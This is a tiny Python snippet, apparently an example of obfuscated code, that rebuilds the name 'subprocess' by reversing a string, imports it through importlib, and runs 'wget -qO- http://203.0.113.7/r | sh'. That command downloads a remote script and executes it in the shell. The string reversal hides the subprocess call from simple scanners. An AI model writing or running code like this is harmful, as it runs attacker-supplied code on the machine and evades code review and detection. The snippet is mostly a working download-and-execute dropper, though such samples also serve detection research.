# assembled-name: reversed() and join build the name passed to importlib
import importlib

target = "".join(reversed("ssecorpbus"))
importlib.import_module(target).run("wget -qO- http://203.0.113.7/r | sh", shell=True)
